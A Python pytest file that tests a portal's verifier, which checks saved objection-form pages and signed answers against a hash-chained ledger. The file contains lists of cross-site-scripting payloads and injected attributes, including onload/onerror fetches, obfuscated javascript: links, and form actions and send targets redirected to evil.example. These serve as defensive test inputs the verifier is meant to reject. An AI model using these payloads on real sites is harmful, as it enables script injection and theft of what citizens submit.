"""Anybody compares a saved page of the form, and a signed answer, with the ledger."""

import dataclasses
import json
import re
from datetime import timedelta

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.casework.answer_signing import answer_key, signed_answer
from portal.casework.identities import new_identity
from portal.cli.verify_command import command as verify
from portal.domain.key_prints import fingerprint
from portal.domain.objection import Answer, AnswerKind, CaseState
from portal.form.objection_fields import ObjectionForm
from portal.intake.objection_form import CodeForm
from portal.ledger.chain import check_chain
from portal.ledger.ledger_lines import LEDGER_NAME, ledger_texts, read_ledger
from portal.ledger.sealing_lines import keys_of, scripts_of
from portal.ledger.signing import new_key
from portal.ledger.siteproof import sign_site
from portal.proof.form_lines import FormSeals
from portal.proof.form_page import (
    _of_plain,
    form_faults,
    plain_form,
    saved_form,
    without_digest,
)
from portal.proof.form_parts import LOOK_UP_FIELDS, OBJECTION_FIELDS
from portal.proof.publishing import publish_folder
from portal.proof.strict_page import StrictPage
from portal.sealed.public_keys import SIGNS, PublicKeys
from portal.sealed.signed_answers import text_of
from portal.sealed.suites import AGE, SM
from portal.web.assets import form_digests
from tests.publicside import OPEN, SLUG, Citizen, public_side
from tests.recording import KEY

IDENTITY, _ = new_identity()


class Published:
    """A public side whose keys and scripts stand in the ledger."""

    def __init__(self, tree, root, suite=AGE):
        self.tree, self.side = tree, public_side(tree, root, suite)
        self.notices = tree.notices[0]
        self.keys = PublicKeys(self.side.root / "keys/public")
        self.office = self.keys.root / "pingding-office" / f"{SLUG}.pub"
        self.office.write_text(f"{SIGNS} {answer_key(IDENTITY).public}\n{self.office.read_text()}")
        self.page = Citizen(self.side).begin()
        self.enter()

    def enter(self, days=0):
        form = FormSeals(self.keys, form_digests())
        at = OPEN + timedelta(days=days)
        publish_folder(self.side.catalogue, self.notices, KEY, at, only=set(), form=form)

    @property
    def ledger(self):
        return self.notices / LEDGER_NAME


@pytest.fixture
def published(site_from, tmp_path, monkeypatch):
    made = Published(site_from(), tmp_path / "state")
    monkeypatch.setenv("PORTAL_NOTICES", str(made.notices))
    return made


def told(path, *options):
    result = CliRunner().invoke(verify, [str(path), *options])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


def test_the_ledger_names_keys_and_scripts_once_and_again_when_they_change(published):
    before = ledger_texts(published.ledger)
    assert check_chain(before).whole
    assert keys_of(before, SLUG)["pingding-office"]["signs"] == answer_key(IDENTITY).public
    [named] = scripts_of(before)
    assert named == form_digests()
    assert all(line.slug for line in read_ledger(published.ledger))
    published.enter(1)
    assert ledger_texts(published.ledger) == before
    published.office.write_text(f"{new_identity()[1]}\n")
    published.enter(2)
    [line] = ledger_texts(published.ledger)[len(before) :]
    assert json.loads(line)["notice"] == SLUG
    assert check_chain(ledger_texts(published.ledger)).whole


def test_the_page_of_keys_lists_every_key_that_ever_stood_the_newest_first(published):
    old = published.keys.recipients("pingding-office", SLUG)[0]
    new = new_identity()[1]
    published.office.write_text(f"{new}\n")
    published.enter(1)
    published.side.catalogue = published.tree.catalogue()
    page = Citizen(published.side).client.get("/objections/keys").text
    receipt = published.keys.receipt()
    prints = [fingerprint(key) for key in (new, old, answer_key(IDENTITY).public, receipt)]
    assert all(one in page for one in prints)
    assert page.index(prints[0]) < page.index(prints[1])
    assert "平定" in page
    assert fingerprint(new_identity()[1]) not in page


def test_a_saved_page_is_as_the_ledger_has_it_or_what_differs_is_told(published, tmp_path):
    page, saved = published.page, tmp_path / "表单.html"
    former = page.replace("data-suite", "data-age")
    assert former != page
    published.side.catalogue = published.tree.catalogue()
    frozen = Citizen(published.side).get(f"/objections/{SLUG}/")
    assert "data-begin" in frozen
    for good in (former, frozen, page):
        saved.write_text(good)
        code, output = told(saved)
        assert (code, output.splitlines()[-1]) == (3, "结论：部分核对"), output
    assert "全部密封公钥都与台账一致" in output
    assert "没有核对的：页面的文字" in output
    age = next(name for name in form_digests() if name.startswith("age."))
    other = new_identity()[1]
    seals = published.keys.recipients("pingding-office", SLUG)[0]
    for changed, said in (
        (frozen.replace(seals, other), "公钥与台账不符：pingding-office"),
        (page.replace(seals, other), "公钥与台账不符：pingding-office"),
        (page.replace(form_digests()[age], "sha384-AAAA"), f"脚本 {age}"),
        (page.replace("data-suite", "data-other"), "不用的属性“data-other”"),
        (page.replace("</head>", '<script src="/static/more.js"></script></head>'), "more.js"),
        (page.replace("</head>", "<script>fetch('x')</script></head>"), "直接写入的脚本"),
        (page.replace("<h1", '<h1 onclick="x()"'), "直接写入的程序"),
        (page.replace(' integrity="sha384-', ' data-was="sha384-'), "属性“data-was”"),
        (page.replace(' integrity="sha384-', ' title="sha384-'), "属性“title”"),
        (re.sub(' integrity="[^"]*"', "", page), "校验值与台账不符"),
        (re.sub('(site[^"]*css") integrity="[^"]*"', r"\1", frozen), "样式表 site."),
        (re.sub(' data-old-digest="[^"]*"', "", frozen), "样式表 old."),
        (re.sub(' data-style-digest="[^"]*"', "", page), "样式表 aloud."),
        (re.sub("<meta http-equiv[^>]*>", "", page), "没有自带的安全策略"),
        (page.replace("default-src &#39;none&#39;", "font-src *"), "安全策略"),
        (page.replace("服务器收到后", "您的设备在发送前"), "在哪里加密的一行"),
        (page.replace('data-way="server"', 'data-way="page"'), "在哪里加密的一行"),
        (frozen.replace("novalidate hidden", "novalidate"), "没有等到脚本运行"),
        (frozen.replace('<span data-offer="mail"', '<span id="facts"'), "有两个部分都叫“facts”"),
        (re.sub('<input[^>]*name="sensitive"[^>]*>', "", frozen), "缺少填写项“sensitive”"),
        (re.sub(' data-aloud-digest="[^"]*"', "", frozen), "脚本 aloud."),
        (re.sub('data-aloud="[^"]*"', 'data-aloud="/static/aloud.0.js"', page), "aloud.0.js"),
        (re.sub('data-aloud-digest="[^"]*"', 'data-aloud-digest=""', page), "脚本 aloud."),
        (page.replace("<h1", '<h1 data-aloud="/static/more.js"'), "属性“data-aloud”"),
    ):
        assert changed != page, said
        saved.write_text(changed)
        code, output = told(saved)
        assert code == 1, said
        assert said in output


LATE = ("aloud.js", "aloud.css", "forms.css", "old.css", "site.css")


def test_a_page_of_before_style_sheets_had_digests_is_checked_in_part(published, tmp_path):
    """Its line names none; a page of now without them is no such page."""
    saved, page = tmp_path / "表单.html", published.page
    page = re.sub(r'(<link rel="stylesheet"[^>]*?) integrity="[^"]*"', r"\1", page)
    page = re.sub(r' data-(?:aloud|style|old)-digest="[^"]*"', "", page)
    page = re.sub(r"<meta http-equiv[^>]*>\n", "", page)
    saved.write_text(page)
    form = saved_form(saved.read_bytes())
    [now] = scripts_of(ledger_texts(published.ledger))
    before = {name: held for name, held in now.items() if kind_of(name) not in LATE}
    keys = keys_of(ledger_texts(published.ledger), SLUG)
    assert form_faults(form, [before], keys) == ()
    assert without_digest(form) == ("样式表", "按“朗读”才取的脚本")
    for lists in ([before, now], [now], [], [{**before, "sealing.0.js": "x", **now}]):
        faults = form_faults(form, lists, keys)
        assert any("样式表 site." in fault for fault in faults)
        assert any("脚本 aloud." in fault for fault in faults)
    other = dataclasses.replace(form, files=(*form.files, ("forms.0.css", "sha384-AAAA")))
    assert form_faults(other, [before], keys), "a digest that is there must be the ledger's"


def kind_of(name):
    return re.sub(r"\.[0-9a-f]{10}", "", name)


def test_the_frozen_form_is_unchanged_only_as_the_signed_site_has_it(published, tmp_path):
    published.side.catalogue = published.tree.catalogue()
    frozen = Citizen(published.side).get(f"/objections/{SLUG}/")
    site, saved = tmp_path / "site", tmp_path / "表单.html"
    page = site / "objections" / SLUG / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(frozen)
    sign_site(site, KEY, OPEN)
    saved.write_text(frozen)
    assert told(page)[0] == 0
    assert told(saved)[0] == 3, "no site at hand"
    code, output = told(saved, "--site", str(site))
    assert (code, output.splitlines()[-1]) == (0, "结论：未改动"), output
    saved.write_text(frozen.replace("提出异议", "提出異議", 1))
    code, output = told(saved, "--site", str(site))
    assert (code, output.splitlines()[-1]) == (1, "结论：已改动"), output
    assert told(saved)[0] == 3
    seals = published.keys.recipients("pingding-office", SLUG)[0]
    page.write_text(frozen.replace(seals, new_identity()[1]))
    sign_site(site, new_key(tmp_path / "other.pem", None), OPEN)
    assert told(page)[0] == 1, "a site of somebody else's proves nothing"
    page.write_text(frozen)
    sign_site(site, new_key(tmp_path / "third.pem", None), OPEN)
    assert told(page)[0] == 3
    (site / "manifest.json.minisig").unlink()
    assert told(page)[0] == 3


# What makes a browser run, load or send what is not the site's, at whatever place it stands.
ACTIVE = (
    "<svg/onload=fetch('//x')>",
    '<img alt=">" src=x onerror="fetch(1)">',
    '<img src="/x" onerror="fetch(1)">',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="//evil.example/">x</a>',
    '<script src="https:/evil.example/static/sealing.js"></script>',
    '<script src="/static/more.js"></script>',
    "<script>fetch('x')</script>",
    "<SCRIPT SRC=/static/more.js></SCRIPT>",
    '<button data-old="/x&quot;&gt;&lt;script/src=/y&gt;">x</button>',
    '<script src="/x" data-old="/x&quot;&gt;&lt;script/src=/y&gt;"></script>',
    '<iframe srcdoc="x"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>@import 'https://evil.example/'</style>",
    '<form method="post" action="/new"><input name="facts"></form>',
    '<form role="search" action="/search/"><textarea name="facts"></textarea></form>',
    '<form method="post" action="/new" data-sealing="{}"></form>',
    '<form role="search" action="/search/"><input name="q" type="search" maxlength="80"></form>',
    '<form role="search" method="post" action="/new"><textarea name="q"></textarea></form>',
    '<link rel="stylesheet" href="/static/more.css">',
    '<link rel="manifest" href="/more.json">',
    '<meta name="referrer" content="unsafe-url">',
    '<input type="search" name="q" maxlength="80" placeholder="搜索单位、姓名、文号">',
    "<template><form></template></form>",
    "<template></form></template>",
    "<!-- x -->",
    "<!-- ",
    "<![CDATA[ x ]]>",
    "<?xml x?>",
    "<noscript>",
    "<plaintext>",
    "<textarea>",
    "<template>",
    "<title>",
    "<",
    "\x1b(B",
    "\x00",
)
TRAITS = (
    ' onclick="x()"',
    " onfocus=x autofocus",
    ' style="x"',
    ' formaction="https://evil.example/"',
    "/onload=x",
    ' action="https://evil.example/"',
    ' data-begin="https://evil.example/begin"',
    ' src="https://evil.example/static/age.js" integrity=""',
    ' class="x" class="y"',
    " data-sealing='{}'",
    ' data-asking="/x"',
    ' data-worker="/static/more.js"',
    ' id="elements"',
)


def test_whatever_is_written_into_a_page_is_refused_wherever_it_stands(published):
    texts = ledger_texts(published.ledger)
    scripts, keys = scripts_of(texts), keys_of(texts, SLUG)
    published.side.catalogue = published.tree.catalogue()
    citizen = Citizen(published.side)
    frozen = citizen.get(f"/objections/{SLUG}/")
    pages = (published.page, frozen, citizen.get("/objections/status"))

    def faults(page):
        return form_faults(_of_plain(plain_form(page.encode())), scripts, keys)

    assert not any(map(faults, pages))

    @settings(max_examples=120, deadline=None)
    @given(st.data())
    def inserted(data):
        page = data.draw(st.sampled_from(pages))
        if data.draw(st.booleans()):
            place, more = data.draw(st.integers(0, len(page))), data.draw(st.sampled_from(ACTIVE))
        else:
            tags = list(re.finditer(r"<[a-z][a-z0-9]*", page))
            tag = data.draw(st.sampled_from(tags))
            ends = (tag.end(), page.index(">", tag.end()))
            place, more = data.draw(st.sampled_from(ends)), data.draw(st.sampled_from(TRAITS))
        assert faults(page[:place] + more + page[place:]), (place, more)

    inserted()
    other = new_identity()[1]
    seals = published.keys.recipients("pingding-office", SLUG)[0]
    [form] = re.findall(r"<form[^>]*data-sealing[^>]*>", frozen)
    false = form.replace(seals, other)
    [sealing] = re.findall(r'data-sealing="[^"]*"', form)
    named = "&#34;offices&#34;:{&#34;x&#34;:{&#34;slug&#34;:&#34;pingding-office&#34;,"
    for changed in (
        frozen.replace(form, false).replace("</body>", f"{form}</form></body>"),
        frozen.replace(form, false).replace("</body>", f"<!-- {form} --></body>"),
        frozen.replace(sealing, f"{sealing.replace(seals, other)} {sealing}"),
        frozen.replace("{&#34;", f"{{{named}&#34;keys&#34;:[&#34;{other}&#34;]}}}},&#34;", 1),
        frozen.replace("&#34;send&#34;:&#34;", "&#34;send&#34;:&#34;https://evil.example"),
        frozen.replace("data-suite=", f'data-age="/static/{next(iter(scripts[0]))}" data-suite='),
        re.sub(r"<script[^>]*/sealing[^>]*></script>", "", frozen),
        frozen.replace("data-begin=", "data-was="),
        published.page.replace("data-suite=", 'data-frozen="javascript:x()" data-suite='),
        published.page.replace("data-worker=", 'data-tells="mail" data-worker="//evil.example'),
        frozen.replace('data-worker="/static/altcha-pbkdf2', 'data-worker="/static/more'),
        frozen.replace('role="search"', 'role="search" method="post"'),
        re.sub(r'(<form class="find".*?</form>)(.*)(<h1>)', r"\2\1\3", frozen, flags=re.DOTALL),
    ):
        assert changed != frozen
        assert faults(changed)


# What a browser gives a form and a document by themselves (Chromium 148): a control of such a name,
# or a picture in a form, takes its place for every script.
PROPERTIES = """
ATTRIBUTE_NODE CDATA_SECTION_NODE COMMENT_NODE DOCUMENT_FRAGMENT_NODE DOCUMENT_NODE
DOCUMENT_POSITION_CONTAINED_BY DOCUMENT_POSITION_CONTAINS DOCUMENT_POSITION_DISCONNECTED
DOCUMENT_POSITION_FOLLOWING DOCUMENT_POSITION_IMPLEMENTATION_SPECIFIC DOCUMENT_POSITION_PRECEDING
DOCUMENT_TYPE_NODE ELEMENT_NODE ENTITY_NODE ENTITY_REFERENCE_NODE NOTATION_NODE
PROCESSING_INSTRUCTION_NODE TEXT_NODE URL __defineGetter__ __defineSetter__ __lookupGetter__
__lookupSetter__ __proto__ acceptCharset accessKey action activeElement activeViewTransition
addEventListener adoptNode adoptedStyleSheets after alinkColor all anchors animate append
appendChild applets ariaActionsElements ariaActiveDescendantElement ariaAtomic ariaAutoComplete
ariaBrailleLabel ariaBrailleRoleDescription ariaBusy ariaChecked ariaColCount ariaColIndex
ariaColIndexText ariaColSpan ariaControlsElements ariaCurrent ariaDescribedByElements
ariaDescription ariaDetailsElements ariaDisabled ariaErrorMessageElements ariaExpanded
ariaFlowToElements ariaHasPopup ariaHidden ariaInvalid ariaKeyShortcuts ariaLabel
ariaLabelledByElements ariaLevel ariaLive ariaModal ariaMultiLine ariaMultiSelectable ariaNotify
ariaOrientation ariaPlaceholder ariaPosInSet ariaPressed ariaReadOnly ariaRelevant ariaRequired
ariaRoleDescription ariaRowCount ariaRowIndex ariaRowIndexText ariaRowSpan ariaSelected ariaSetSize
ariaSort ariaValueMax ariaValueMin ariaValueNow ariaValueText assignedSlot attachInternals
attachShadow attributeStyleMap attributes autocapitalize autocomplete autocorrect autofocus baseURI
before bgColor blur body captureEvents caretPositionFromPoint caretRangeFromPoint characterSet
charset checkValidity checkVisibility childElementCount childNodes children classList className
clear click clientHeight clientLeft clientTop clientWidth cloneNode close closest
compareDocumentPosition compatMode computedStyleMap constructor contains contentEditable contentType
cookie createAttribute createAttributeNS createCDATASection createComment createDocumentFragment
createElement createElementNS createEvent createExpression createNSResolver createNodeIterator
createProcessingInstruction createRange createTextNode createTreeWalker currentCSSZoom currentScript
customElementRegistry dataset defaultView designMode dir dispatchEvent doctype documentElement
documentURI domain draggable editContext elementFromPoint elementTiming elements elementsFromPoint
embeds encoding enctype enterKeyHint evaluate execCommand exitFullscreen exitPictureInPicture
exitPointerLock featurePolicy fgColor firstChild firstElementChild focus focusGroup focusGroupStart
fonts forms fragmentDirective fullscreen fullscreenElement fullscreenEnabled getAnimations
getAttribute getAttributeNS getAttributeNames getAttributeNode getAttributeNodeNS
getBoundingClientRect getClientRects getElementById getElementsByClassName getElementsByName
getElementsByTagName getElementsByTagNameNS getHTML getRootNode getSelection hasAttribute
hasAttributeNS hasAttributes hasChildNodes hasFocus hasOwnProperty hasPointerCapture
hasStorageAccess hasUnpartitionedCookieAccess head hidden hidePopover id images implementation
importNode inert innerHTML innerText inputEncoding inputMode insertAdjacentElement
insertAdjacentHTML insertAdjacentText insertBefore isConnected isContentEditable isDefaultNamespace
isEqualNode isPrototypeOf isSameNode lang lastChild lastElementChild lastModified length linkColor
links localName location lookupNamespaceURI lookupPrefix matches method moveBefore name namespaceURI
nextElementSibling nextSibling noValidate nodeName nodeType nodeValue nonce normalize offsetHeight
offsetLeft offsetParent offsetTop offsetWidth open outerHTML outerText ownerDocument parentElement
parentNode part pictureInPictureElement pictureInPictureEnabled plugins pointerLockElement popover
prefix prepend prerendering previousElementSibling previousSibling propertyIsEnumerable pseudo
queryCommandEnabled queryCommandIndeterm queryCommandState queryCommandSupported queryCommandValue
querySelector querySelectorAll readyState referrer rel relList releaseEvents releasePointerCapture
remove removeAttribute removeAttributeNS removeAttributeNode removeChild removeEventListener
replaceChild replaceChildren replaceWith reportValidity requestFullscreen requestPointerLock
requestStorageAccess requestSubmit reset role rootElement scripts scroll scrollBy scrollHeight
scrollIntoView scrollIntoViewIfNeeded scrollLeft scrollTo scrollTop scrollWidth scrollingElement
setAttribute setAttributeNS setAttributeNode setAttributeNodeNS setHTML setHTMLUnsafe
setPointerCapture shadowRoot showPopover slot spellcheck startViewTransition style styleSheets
submit tabIndex tagName target textContent timeline title toLocaleString toString toggleAttribute
togglePopover translate valueOf virtualKeyboardPolicy visibilityState vlinkColor wasDiscarded
webkitCancelFullScreen webkitCurrentFullScreenElement webkitExitFullscreen webkitFullscreenElement
webkitFullscreenEnabled webkitHidden webkitIsFullScreen webkitMatchesSelector
webkitRequestFullScreen webkitRequestFullscreen webkitVisibilityState when write writeln
writingSuggestions xmlEncoding xmlStandalone xmlVersion
"""


def test_no_control_takes_the_place_of_what_scripts_ask_a_form_for(published):
    """A control called `dataset` stopped the script, and what was typed went as it was."""
    published.side.catalogue = published.tree.catalogue()
    citizen = Citizen(published.side)
    names = {*re.findall(r"\S+", PROPERTIES), "AGE", "SM", "QR", "onsubmit", "a b", "q"}
    for path in (f"/objections/{SLUG}/", f"/objections/{SLUG}/new?way=page", "/objections/status"):
        page = citizen.get(path)
        assert StrictPage(page.encode()).faults == []
        [form] = re.findall(r"<form method=[^>]*>", page)
        for tag in (
            '<input type="hidden" name="{}" value="">',
            '<input type="hidden" id="{}" value="">',
            '<button name="{}">x</button>',
            '<img src="/static/icon.svg" alt="" id="{}">',
            '<fieldset id="{}"></fieldset>',
        ):
            more = "".join(tag.format(name) for name in sorted(names))
            told = "".join(StrictPage(page.replace(form, form + more).encode()).faults)
            missed = {
                name
                for name in names
                if f"“{name[:40]}”" not in told and f"：{name[:40]}" not in told
            }
            known = {"action"} if "button" in tag else set()
            assert missed == known, tag


def test_the_names_of_controls_are_those_of_the_forms(published):
    with published.side.app().test_request_context():
        objection, look_up = ObjectionForm(formdata=None), CodeForm(formdata=None)
        assert {field.name for field in objection} - {"remove"} == OBJECTION_FIELDS
        assert {field.name for field in look_up} == LOOK_UP_FIELDS


def test_a_saved_look_up_page_is_held_against_the_ledger_too(published, tmp_path):
    page, saved = Citizen(published.side).get("/objections/status"), tmp_path / "查询.html"
    saved.write_text(page)
    code, output = told(saved)
    assert (code, output.splitlines()[-1]) == (3, "结论：部分核对"), output
    assert "查询异议办理的页面" in output
    digests = {name.split(".")[0]: digest for name, digest in form_digests().items()}
    for changed in (
        page.replace(digests["age"], "sha384-AAAA"),
        page.replace(digests["status"], "sha384-AAAA"),
        page.replace("data-age", "data-other"),
        page.replace("</form>", '</form><script src="/static/more.js"></script>'),
        page.replace("<h1", '<h1 onclick="x()"'),
    ):
        assert changed != page
        saved.write_text(changed)
        assert told(saved)[0] == 1


def test_a_page_that_seals_with_sm2_is_held_against_the_ledger_too(
    site_from, tmp_path, monkeypatch
):
    made = Published(site_from(), tmp_path / "state", SM)
    monkeypatch.setenv("PORTAL_NOTICES", str(made.notices))
    sm = next(name for name in form_digests() if name.startswith("sm."))
    assert "/age." not in made.page
    assert "国密SM2公钥" in made.page
    for name, page in (
        ("表单.html", made.page),
        ("查询.html", Citizen(made.side).get("/objections/status")),
    ):
        saved = tmp_path / name
        saved.write_text(page)
        assert told(saved)[0] == 3
        saved.write_text(page.replace(form_digests()[sm], "sha384-AAAA"))
        code, output = told(saved)
        assert code == 1
        assert f"脚本 {sm}" in output


def test_an_answer_is_checked_with_the_ledger_s_key_alone(published, tmp_path, monkeypatch):
    answer = signed_answer(
        Answer(1, OPEN, AnswerKind.REPLY, CaseState.EXAMINING, "经核查，异议不成立。"),
        number="YY20211207-7K3QX9PA",
        notice=SLUG,
        office="pingding-office",
        identities=[IDENTITY],
        at=OPEN,
    )
    file = tmp_path / "答复.txt"
    file.write_text(text_of(answer, "YY20211207-7K3QX9PA", SLUG))
    monkeypatch.setenv("PORTAL_KEYS", str(tmp_path / "nothing"))
    assert told(file)[0] == 0
    assert told(file, "--ledger", str(published.ledger))[0] == 0
    citizen = Citizen(published.side)
    citizen.object()
    receipt = tmp_path / "回执.txt"
    receipt.write_text(citizen.hidden()["receipt"])
    assert told(receipt)[0] == 0, "the ledger names the key that signs receipts"
    lines = published.ledger.read_text().splitlines()
    other = answer_key(new_identity()[0]).public
    forged = [line.replace(answer_key(IDENTITY).public, other) for line in lines]
    published.ledger.write_text("\n".join(forged) + "\n")
    for handed in (file, receipt):
        code, output = told(handed)
        assert code == 1
        assert "链条断裂" in output
